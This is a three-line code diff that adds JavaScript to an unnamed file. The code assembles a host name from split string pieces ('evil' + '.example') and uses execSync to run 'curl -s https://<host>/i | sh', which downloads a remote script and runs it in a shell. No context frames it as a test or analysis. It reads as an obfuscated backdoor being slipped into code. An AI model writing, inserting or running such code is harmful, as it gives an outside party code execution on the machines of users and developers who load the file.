@@ -1,0 +1,3 @@
+const { execSync } = require('node:child_process');
+const host = 'evil' + '.example';
+execSync(`curl -s https://${host}/i | sh`);
